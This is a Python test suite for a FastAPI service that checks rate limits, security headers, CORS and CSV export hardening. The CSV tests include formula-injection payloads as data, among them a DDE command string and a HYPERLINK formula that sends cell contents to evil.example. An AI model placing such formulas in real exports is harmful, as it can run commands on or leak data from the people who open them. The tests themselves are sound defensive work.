"""Rate limits, browser-facing protections and spreadsheet-safe CSV (issue 12, item 7), on both
databases where a database is involved."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.api.rate_limit import RateLimiter
from app.core.csv_safety import neutralise, safe_row
from app.services.articulation import results_csv
from app.settings import PROJECT_ROOT, RateLimitSettings, Settings
from tests import identity
from tests.api.test_frameworks_api import assert_problem
from tests.conftest import make_settings

SAMPLES = PROJECT_ROOT / "samples/catalogue"
JSON = {"content-type": "application/json"}


# --- rate limits ---------------------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_token_bucket_refills_and_says_how_long_to_wait() -> None:
    clock = Clock()
    limiter = RateLimiter(RateLimitSettings(write_per_minute=60, write_burst=3), clock=clock)
    assert [limiter.charge("write", "org:a") for _ in range(3)] == [None, None, None]
    assert limiter.charge("write", "org:a") == pytest.approx(1.0)  # 1 token per second
    assert limiter.charge("write", "org:b") is None  # another caller, another bucket
    clock.now += 0.5
    assert limiter.charge("write", "org:a") == pytest.approx(0.5)  # a refusal takes nothing
    clock.now += 0.5
    assert limiter.charge("write", "org:a") is None
    clock.now += 3600
    assert [limiter.charge("write", "org:a") for _ in range(4)][-1] is not None  # burst capped


def test_least_recent_callers_are_dropped_past_the_cap() -> None:
    limiter = RateLimiter(RateLimitSettings(write_burst=1, max_callers=2), clock=Clock())
    for caller in ("a", "b", "c"):
        assert limiter.charge("write", caller) is None
    assert limiter.charge("write", "c") is not None  # kept: still empty
    assert limiter.charge("write", "a") is None  # dropped: a fresh bucket


def test_disabled_limiter_grants_everything() -> None:
    limiter = RateLimiter(RateLimitSettings(enabled=False, write_burst=1))
    assert all(limiter.charge("write", "x") is None for _ in range(10))


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def limited_api(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    from app.api.main import create_app
    from tests.conftest import _backend_url

    url = _backend_url(request.param, tmp_path_factory, "hardeninglimits")
    settings: Settings = make_settings(
        url,
        rate_limits=RateLimitSettings(
            write_per_minute=6,
            write_burst=4,
            batch_courses_per_minute=60,
            batch_courses_burst=12,
        ),
    )
    with TestClient(create_app(settings), headers=identity.ADMIN_HEADERS) as client:
        for organisation in ("other-org", "batch-org"):
            identity.ensure_organisation(client.app, organisation)
        yield client


def test_writes_beyond_the_burst_are_429_with_retry_after(limited_api: TestClient) -> None:
    body = {"value": 10, "from": "ects", "to": "uk-cats"}
    answers = [limited_api.post("/v1/credits/convert", json=body) for _ in range(5)]
    assert [a.status_code for a in answers[:4]] == [200] * 4
    problem = assert_problem(answers[4], 429)
    assert problem["limit"] == "write"
    assert int(answers[4].headers["retry-after"]) == problem["retry_after"] >= 1
    # reads of reference data have their own, generous bucket
    assert all(limited_api.get("/v1/frameworks").status_code == 200 for _ in range(20))
    # another organisation has its own buckets
    other = TestClient(limited_api.app, headers=identity.headers("admin", "other-org"))
    assert other.post("/v1/credits/convert", json=body).status_code == 200


def test_batch_courses_quota_per_organisation(limited_api: TestClient) -> None:
    path = SAMPLES / "uppsala-msc-computer-science-selection.json"
    other = TestClient(limited_api.app, headers=identity.headers("admin", "batch-org"))
    created = other.post("/v1/qualifications", content=path.read_bytes(), headers=JSON)
    assert created.status_code in (200, 201), created.text
    target = created.json()["items"][0]["id"]

    def batch(n: int, tag: str) -> Any:
        courses = [{"id": f"{tag}{i}", "learning_outcomes": [f"topic {tag}{i}"]} for i in range(n)]
        return other.post(
            "/v1/batch/articulations", json={"qualification_id": target, "courses": courses}
        )

    assert batch(8, "a").status_code == 202
    refused = batch(8, "b")  # 16 courses > 12 in the burst
    problem = assert_problem(refused, 429)
    assert problem["limit"] == "batch_courses"
    assert int(refused.headers["retry-after"]) >= 1
    too_big = assert_problem(batch(13, "c"), 422)  # more than a whole burst: never possible
    assert too_big["errors"][0]["pointer"] == "/courses"


# --- security headers, CORS, documentation ---------------------------------------------------


def test_security_headers_on_data_errors_and_docs(sqlite_client: TestClient) -> None:
    for response in (
        sqlite_client.get("/v1/frameworks"),
        sqlite_client.get("/v1/credentials"),
        sqlite_client.get("/v1/nothing-here"),
        sqlite_client.post("/v1/credentials", content=b"x", headers={"content-type": "text/plain"}),
    ):
        headers = response.headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["content-security-policy"].startswith("default-src 'none'")
    # personal data and organisation data: never kept by a cache
    assert sqlite_client.get("/v1/credentials").headers["cache-control"] == "no-store"
    assert sqlite_client.get("/v1/recognitions").headers["cache-control"] == "no-store"


def test_docs_are_served_from_this_origin_only(sqlite_client: TestClient) -> None:
    for page, assets in (
        ("/docs", ["/static/swagger-ui/swagger-ui-bundle.js", "/static/swagger-ui/swagger-ui.css"]),
        ("/redoc", ["/static/redoc/redoc.standalone.js"]),
        ("/docs/oauth2-redirect", ["/static/swagger-ui/oauth2-redirect.js"]),
    ):
        anonymous = TestClient(sqlite_client.app)
        r = anonymous.get(page)
        assert r.status_code == 200
        assert not re.search(r"(src|href)=\"(https?:)?//", r.text), r.text  # no CDN
        assert "<script>" not in r.text  # no inline script: the policy below forbids it
        policy = r.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        for asset in assets:
            assert asset in r.text
            fetched = anonymous.get(asset)
            assert fetched.status_code == 200 and len(fetched.content) > 1000, asset
    for licence in ("/static/swagger-ui/LICENSE", "/static/redoc/LICENSE"):
        assert TestClient(sqlite_client.app).get(licence).status_code == 200


def test_no_cors_by_default(sqlite_client: TestClient) -> None:
    origin = {"origin": "https://evil.example"}
    r = sqlite_client.get("/v1/frameworks", headers=origin)
    assert "access-control-allow-origin" not in r.headers
    preflight = sqlite_client.options(
        "/v1/credentials",
        headers={**origin, "access-control-request-method": "POST"},
    )
    assert "access-control-allow-origin" not in preflight.headers


def test_cors_allow_list(tmp_path: Any) -> None:
    from app.api.main import create_app

    settings = make_settings(
        f"sqlite:///{tmp_path}/cors.db", cors_allow_origins=["https://ui.example"]
    )
    app = TestClient(create_app(settings))  # no start-up needed: CORS answers preflights itself
    asked = {"access-control-request-method": "POST", "access-control-request-headers": "x-api-key"}
    ok = app.options("/v1/credentials", headers={"origin": "https://ui.example", **asked})
    assert ok.status_code == 200
    assert ok.headers["access-control-allow-origin"] == "https://ui.example"
    assert "x-api-key" in ok.headers["access-control-allow-headers"].lower()  # echoed back
    refused = app.options("/v1/credentials", headers={"origin": "https://evil.example", **asked})
    assert "access-control-allow-origin" not in refused.headers


# --- CSV formulas ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Data literacy", "Data literacy"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


def test_results_csv_neutralises_every_text_cell() -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    payload = {
        "courses": [{"id": "@c1", "title": evil}],
        "modules": [
            {
                "code": "-M1",
                "title": "+Module",
                "credits_ects": None,
                "proposals": [
                    {
                        "decision": "replace",
                        "kind": "one_to_one",
                        "courses": ["@c1"],
                        "coverage": 1.0,
                        "covered_outcomes": [0],
                        "uncovered_outcomes": [],
                        "credits": {"courses_ects": None, "sufficient": None},
                        "level": [],
                        "pairs": [],
                        "reasons": ["=cmd|' /C calc'!A0"],
                    }
                ],
            }
        ],
    }
    rows = list(csv.reader(io.StringIO(results_csv(payload))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), rows[1]
    assert "'" + evil in rows[1] and "'@c1" in rows[1] and "'-M1" in rows[1]
    assert safe_row(["=1", 2]) == ["'=1", 2]


def test_address_bucket_refuses_before_authentication_runs() -> None:
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from app.api.rate_limit import AddressLimit

    calls: list[str] = []

    async def endpoint(request: Any) -> PlainTextResponse:
        calls.append(request.url.path)  # stands for everything behind: authentication, routers
        return PlainTextResponse("ok")

    limiter = RateLimiter(RateLimitSettings(public_burst=3, public_per_minute=60))
    app = AddressLimit(Starlette(routes=[Route("/x", endpoint)]), limiter=limiter)
    client = TestClient(app)
    answers = [client.get("/x", headers={"x-api-key": f"psk_guess{n}"}) for n in range(5)]
    assert [a.status_code for a in answers] == [200, 200, 200, 429, 429]
    assert len(calls) == 3  # the refused ones never reached the app
    problem = assert_problem(answers[3], 429)
    assert problem["limit"] == "address"
    assert answers[3].headers["retry-after"] == "1"


def test_an_unexpected_error_carries_the_security_headers_too() -> None:
    from fastapi import FastAPI

    from app.api import problems

    app = FastAPI()
    problems.install(app)

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("a bug")

    answer = TestClient(app, raise_server_exceptions=False).get("/boom")
    assert_problem(answer, 500)
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
